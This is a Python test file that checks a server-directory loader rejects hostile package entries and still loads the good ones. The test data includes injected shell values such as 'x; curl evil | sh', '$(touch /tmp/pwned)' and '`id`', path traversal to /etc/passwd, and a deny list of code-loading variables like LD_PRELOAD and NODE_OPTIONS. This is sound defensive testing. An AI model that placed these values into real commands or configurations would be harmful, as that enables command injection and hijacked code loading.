"""Hostile directory entries: each is rejected with its file and reason, and the rest of the directory loads.

A rejection is the defence: each test below names the check it attacks, and fails if that check is removed.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from codemode.directory import DEFAULT_DIR, load_directory

GOOD = json.loads((DEFAULT_DIR / "memory.json").read_text())


def package(**changes: Any) -> dict[str, Any]:
    entry = json.loads(json.dumps(GOOD))
    entry["name"] = "io.example/evil"
    entry["packages"][0].update(changes)
    return entry


HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
    "metachar_identifier": (package(identifier="x; curl evil | sh"), "not a valid npm package name"),
    "metachar_argument": (
        package(packageArguments=[{"type": "positional", "value": "$(touch /tmp/pwned)"}]),
        "shell metacharacters",
    ),
    "backtick_default": (
        package(environmentVariables=[{"name": "TOKEN", "default": "`id`"}]),
        "shell metacharacters",
    ),
    "newline_in_flag": (package(packageArguments=[{"type": "named", "name": "--a\n--b"}]), "is not a --flag"),
    "unknown_registry": (package(registryType="docker", identifier="evil/image"), "unknown registryType 'docker'"),
    "unpinned_version": (package(version="latest"), "not a pinned version"),
    "version_range": (package(version="^1.0.0"), "not a pinned version"),
    "runtime_hint_shell": (package(runtimeHint="bash"), "runtimeHint 'bash'"),
    "node_options": (
        package(environmentVariables=[{"name": "NODE_OPTIONS", "value": "--require /tmp/x.js"}]),
        "changes how a runtime loads code",
    ),
    "ld_preload": (package(environmentVariables=[{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]), "loads code"),
    # A program filling these (or an entry fixing them) picks the index npx/uvx install from, or what git runs.
    "npm_registry_any_case": (package(environmentVariables=[{"name": "npm_config_Registry"}]), "loads code"),
    "uv_index": (package(environmentVariables=[{"name": "UV_INDEX_URL"}]), "loads code"),
    "pip_index": (package(environmentVariables=[{"name": "PIP_EXTRA_INDEX_URL"}]), "loads code"),
    "git_ssh_command": (package(environmentVariables=[{"name": "GIT_SSH_COMMAND"}]), "loads code"),
    "python_userbase": (package(environmentVariables=[{"name": "PYTHONUSERBASE"}]), "loads code"),
    "perl5opt": (package(environmentVariables=[{"name": "PERL5OPT"}]), "loads code"),
    "node_ca": (package(environmentVariables=[{"name": "NODE_EXTRA_CA_CERTS"}]), "loads code"),
    "windows_case": (package(environmentVariables=[{"name": "node_options"}]), "loads code"),
    "openapi_outside": (
        {"name": "io.example/api", "openapi": {"spec": "../../etc/passwd"}},
        "a path outside the directory",
    ),
    "openapi_absolute": ({"name": "io.example/api2", "openapi": {"spec": "/etc/passwd"}}, "outside the directory"),
    "nothing_to_run": ({"name": "io.example/empty"}, "nothing to run"),
    "bad_name": ({"name": "../../x", "packages": GOOD["packages"]}, "must be 'namespace/name'"),
    # The short name is a server's name (its log file, its stubs' module): `mcp-..` left `..`.
    "dot_short_name": ({"name": "io.x/mcp-..", "packages": GOOD["packages"]}, "is not a valid server name"),
    "long_short_name": ({"name": "io.x/" + "a" * 70, "packages": GOOD["packages"]}, "is not a valid server name"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_entry_is_rejected_with_file_and_reason(tmp_path: Path, case: str) -> None:
    entry, reason = HOSTILE[case]
    (tmp_path / "memory.json").write_text(json.dumps(GOOD))
    (tmp_path / f"{case}.json").write_text(json.dumps(entry))
    directory = load_directory([tmp_path])
    assert list(directory.entries) == ["memory"], "the good entry still loads"
    assert len(directory.rejected) == 1
    rejected = directory.rejected[0]
    assert rejected.file == str(tmp_path / f"{case}.json")
    assert reason in rejected.reason, rejected.reason


def test_ordinary_environment_variables_still_load(tmp_path: Path) -> None:
    names = ["NODE_ENV", "PYTHONUNBUFFERED", "GITHUB_TOKEN", "UVICORN_PORT", "PIPELINE", "LOG_LEVEL"]
    (tmp_path / "memory.json").write_text(json.dumps(package(environmentVariables=[{"name": n} for n in names])))
    directory = load_directory([tmp_path])
    assert directory.rejected == [] and directory.entries["evil"].entry.params() == names


def test_symlink_out_of_the_directory_is_rejected(tmp_path: Path) -> None:
    outside = tmp_path / "outside.json"
    outside.write_text(json.dumps(GOOD))
    folder = tmp_path / "dir"
    folder.mkdir()
    os.symlink(outside, folder / "link.json")
    directory = load_directory([folder])
    assert directory.entries == {}
    assert "outside the directory" in directory.rejected[0].reason


def test_oversized_and_malformed_files_are_rejected(tmp_path: Path) -> None:
    (tmp_path / "big.json").write_text(" " * 300_000 + "{}")
    (tmp_path / "broken.json").write_text('{"name": ')
    (tmp_path / "list.json").write_text("[]")
    reasons = {Path(r.file).name: r.reason for r in load_directory([tmp_path]).rejected}
    assert "larger than" in reasons["big.json"]
    assert "invalid JSON" in reasons["broken.json"]
    assert "not a JSON object" in reasons["list.json"]


def test_duplicate_short_name_is_rejected(tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text(json.dumps(GOOD))
    twin = dict(GOOD, name="io.other/server-memory")
    (tmp_path / "b.json").write_text(json.dumps(twin))
    directory = load_directory([tmp_path])
    assert directory.entries["memory"].file.name == "a.json"
    assert "already taken" in directory.rejected[0].reason
